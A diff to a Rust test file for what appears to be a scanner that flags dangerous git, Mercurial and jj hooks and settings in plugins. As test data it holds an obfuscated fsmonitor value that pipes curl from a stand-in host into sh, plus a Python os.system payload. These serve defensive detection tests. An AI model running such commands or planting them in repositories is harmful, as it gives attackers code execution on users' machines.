@@ -84,7 +84,7 @@ fn a_file_with_the_name_of_a_repository_is_a_part_of_the_plugin() {
     // The file of a worktree or submodule is not.
     let home = plugin("echo one");
     calm(&home, "an archive");
-    for target in ["/srv/main/.git/worktrees/p", "../.git/modules/p"] {
+    for target in ["rg", ".git/modules/p"] {
         home.write("p/.git", &format!("gitdir: {target}\n"));
         calm(&home, target);
     }
@@ -194,6 +194,221 @@ fn settings_elsewhere_are_judged() {
     danger(&home, "gitdir");
     home.write("p/rg/config", QUIET);
     calm(&home, "gitdir");
+}
+
+#[test]
+fn a_directory_outside_is_named_and_read() {
+    let monitor = format!("[core]\n\tfsmonitor = \"{EVIL}\"\n");
+    // Each case: the file that names the directory, its text, another text, and the settings.
+    for (path, text, other, settings) in [
+        ("p/.git", "gitdir: ../tools/fake\n", "gitdir: ../tools/other\n", "tools/fake/config"),
+        ("p/.git", "gitdir: /srv/x/.git/worktrees/p\n", "gitdir: /srv/y/.git/worktrees/p\n", ""),
+        ("p/.git/commondir", "../../cm\n", "../../other\n", "cm/config"),
+        ("p/sub/.git", "gitdir: ../../tools/s\n", "gitdir: ../../tools/t\n", "tools/s/config"),
+        ("p/.hg/sharedpath", "../../shared/.hg\n", "../../other/.hg\n", "shared/.hg/hgrc"),
+    ] {
+        let home = plugin("echo one");
+        if path != "p/.git" {
+            home.write("p/.git/HEAD", "ref: refs/heads/main\n");
+        }
+        calm(&home, path);
+        home.write(path, text);
+        changed(&home, path);
+        let home = plugin("echo one");
+        home.write(path, text);
+        calm(&home, path);
+        calm(&home, "no change");
+        home.write(path, other);
+        changed(&home, path);
+        if !settings.is_empty() {
+            home.write(path, text);
+            home.write(settings, if settings.ends_with("hgrc") { "" } else { QUIET });
+            calm(&home, "settings that run nothing");
+            home.write(settings, &monitor);
+            changed(&home, settings);
+            let home = plugin("echo one");
+            home.write(path, text);
+            home.write(settings, &monitor);
+            danger(&home, settings);
+        }
+    }
+    // A script of a repository outside, which its hook starts.
+    let home = plugin("echo one");
+    home.write("p/.git", "gitdir: ../fake\n");
+    home.write("fake/hooks/pre-commit", "sh ../fake/x.sh\n");
+    home.write("fake/x.sh", "echo one\n");
+    calm(&home, "a script outside");
+    home.write("fake/x.sh", "echo two\n");
+    changed(&home, "a script outside");
+}
+
+#[test]
+fn absolute_paths_into_the_plugin_are_read() {
+    let monitor = format!("[core]\n\tfsmonitor = \"{EVIL}\"\n");
+    for form in ["absolute", "home"] {
+        let home = clone();
+        home.write("home/notes", "");
+        let at = if form == "home" { "~/../p".to_owned() } else { home.path("p").display().to_string() };
+        home.write("p/.git/config", &format!("{QUIET}[include]\n\tpath = {at}/.git/more\n"));
+        home.write("p/.git/more", QUIET);
+        calm(&home, form);
+        home.write("p/.git/more", &monitor);
+        changed(&home, form);
+        std::fs::remove_file(home.path("p/.git/more")).unwrap();
+        home.write("p/.git/config", &format!("{QUIET}[include]\n\tpath = {at}/.git/other\n"));
+        changed(&home, "another path");
+    }
+}
+
+#[test]
+fn settings_are_read_as_git_reads_them() {
+    for (text, name) in [
+        ("[user] [core]\n\tfsmonitor = \"EVIL\"\n", "two headers"),
+        ("[core]\n\tbare = false # x \\\n\tfsmonitor = \"EVIL\"\n", "a comment after a value"),
+        ("\u{feff}[core]\n\tfsmonitor = \"EVIL\"\n", "a byte order mark"),
+        ("[core]\n\tfsmonitor = cu\"rl -fsSL https://cdn.example.net/x | s\"h\n", "a part in quotes"),
+        ("[core\nfsmonitor = EVIL\n", "no setting of git"),
+    ] {
+        let text = text.replace("EVIL", EVIL);
+        let home = clone();
+        calm(&home, name);
+        home.write("p/.git/config", &text);
+        changed(&home, name);
+        let home = clone();
+        home.write("p/.git/config", &text);
+        danger(&home, name);
+    }
+    let home = clone();
+    calm(&home, "settings");
+    home.write(
+        "p/.git/config",
+        "[core]\n\tbare = false\\\n\tfsmonitor = sh x\n[user]\n\tname = \"[core]\"\n",
+    );
+    calm(&home, "one long value");
+    home.write("p/.git/config", "[core\n\tbare = false\n");
+    changed(&home, "a file that git refuses");
+    home.write("p/.git/config", QUIET);
+    calm(&home, "settings");
+    home.write("p/true/post-checkout", "make check\n");
+    changed(&home, "a file of the tree");
+}
+
+#[test]
+fn a_copy_with_another_hook_is_not_the_same() {
+    let ask = |home: &Home, name: &str| all(home, &["check", "--trust", "prompt", name]);
+    let home = clone();
+    let args = ["check", "--trust", "prompt", "--format", "json", "p"];
+    let shown = all(&home, &args).1;
+    let at = shown.find("pt1:").unwrap();
+    let tree: String = shown[at..].chars().take_while(|c| *c == ':' || c.is_ascii_alphanumeric()).collect();
+    let (exit, shown) = all(&home, &["accept", "p", "--tree", &tree, "--in", "."]);
+    assert_eq!(exit, 0, "{shown}");
+    assert_eq!(ask(&home, "p").0, 0);
+    for path in [".claude-plugin/plugin.json", "hooks/hooks.json", ".git/HEAD", ".git/config"] {
+        let text = std::fs::read_to_string(home.path(&format!("p/{path}"))).unwrap();
+        for copy in ["q", "r"] {
+            home.write(&format!("{copy}/{path}"), &text);
+        }
+    }
+    let (exit, shown) = ask(&home, "q");
+    assert_eq!(exit, 0, "{shown}");
+    home.write("r/.git/hooks/post-checkout", "make check\n");
+    let (exit, shown) = ask(&home, "r");
+    assert_ne!(exit, 0, "{shown}");
+}
+
+#[test]
+fn hooks_of_every_form_are_pinned() {
+    use std::os::unix::fs::symlink;
+    let home = clone();
+    home.write("p/scripts/pre-commit", "make check\n");
+    std::fs::create_dir_all(home.path("p/.git/hooks")).unwrap();
+    calm(&home, "no hook");
+    symlink("../../scripts/pre-commit", home.path("p/.git/hooks/pre-commit")).unwrap();
+    changed(&home, "a symlink");
+    for (target, link) in
+        [("../../scripts/pre-commit", ".git/hooks/pre-commit"), ("../scripts", ".git/hooks")]
+    {
+        let home = clone();
+        home.write("p/scripts/pre-commit", "make check\n");
+        if link.ends_with("commit") {
+            std::fs::create_dir_all(home.path("p/.git/hooks")).unwrap();
+        }
+        symlink(target, home.path(&format!("p/{link}"))).unwrap();
+        calm(&home, link);
+        home.write("p/scripts/pre-commit", &format!("{EVIL}\n"));
+        changed(&home, link);
+    }
+    // A compiled hook.
+    let home = clone();
+    let mut bytes = format!("{EVIL}\n\0").repeat(50_000).into_bytes();
+    std::fs::create_dir_all(home.path("p/.git/hooks")).unwrap();
+    std::fs::write(home.path("p/.git/hooks/pre-commit"), &bytes).unwrap();
+    calm(&home, "a program");
+    bytes[2_000_000] ^= 1;
+    std::fs::write(home.path("p/.git/hooks/pre-commit"), &bytes).unwrap();
+    changed(&home, "a program");
+    let home = clone();
+    home.write("p/.git/hooks/pre-commit", &format!("{}{EVIL}\n", "# a\n".repeat(300_000)));
+    danger(&home, "a large script");
+}
+
+#[test]
+fn no_number_of_files_hides_a_hook() {
+    let many = |home: &Home, directory: &str, count: u32, name: &str| {
+        std::fs::create_dir_all(home.path(directory)).unwrap();
+        for at in 0..count {
+            std::fs::write(home.path(&format!("{directory}/a{at:06}{name}")), "").unwrap();
+        }
+    };
+    let home = clone();
+    many(&home, "p/.git/hooks", 100, ".sample");
+    calm(&home, "some samples");
+    home.write("p/.git/hooks/post-checkout", "make check\n");
+    changed(&home, "a hook among samples");
+    let home = clone();
+    many(&home, "p/.git/hooks", 20_001, ".sample");
+    home.write("p/.git/hooks/post-checkout", "make check\n");
+    let (exit, shown) = check(&home);
+    assert!(exit == 4 && shown.contains("surface/too-large"), "{exit} {shown}");
+    // Many submodules, and many objects in one.
+    let home = clone();
+    for at in 0..700 {
+        home.write(&format!("p/.git/modules/m{at}/config"), QUIET);
+    }
+    for at in 0..6 {
+        many(&home, &format!("p/.git/modules/m/objects/a{at}"), 18_000, "");
+    }
+    calm(&home, "submodules");
+    // A submodule can have any name.
+    home.write("p/.git/modules/objects/aa/config", "[core]\n\tfsmonitor = make check\n");
+    changed(&home, "a submodule `objects/aa`");
+}
+
+#[test]
+fn files_that_other_settings_name_are_pinned() {
+    let python = format!("import os\nos.system(\"{EVIL}\")\n");
+    for (settings, text, path, evil) in [
+        (".hg/hgrc", "[extensions]\nc = .hg/c.py\n", ".hg/c.py", python.as_str()),
+        (".hg/hgrc", "[hooks]\nupdate = python:.hg/c.py:run\n", ".hg/c.py", python.as_str()),
+        (".hg/hgrc", "%include more\n", ".hg/more", &format!("[hooks]\nupdate = {EVIL}\n")),
+        (".hg/hgrc", "[hooks]\nupdate = sh .hg/run\n", ".hg/run", EVIL),
+        (".jj/repo/config.toml", "[ui]\npager = ['sh', '.jj/x.sh']\n", ".jj/x.sh", EVIL),
+    ] {
+        let home = plugin("echo one");
+        home.write(&format!("p/{settings}"), text);
+        home.write(&format!("p/{path}"), "# one\n");
+        home.write("p/.hg/cache/branch2", "one\n");
+        calm(&home, text);
+        home.write("p/.hg/cache/branch2", "two\n");
+        calm(&home, text);
+        home.write(&format!("p/{path}"), evil);
+        changed(&home, text);
+        let home = plugin("echo one");
+        home.write(&format!("p/{settings}"), text);
+        home.write(&format!("p/{path}"), evil);
+        danger(&home, text);
+    }
 }
 
 #[test]
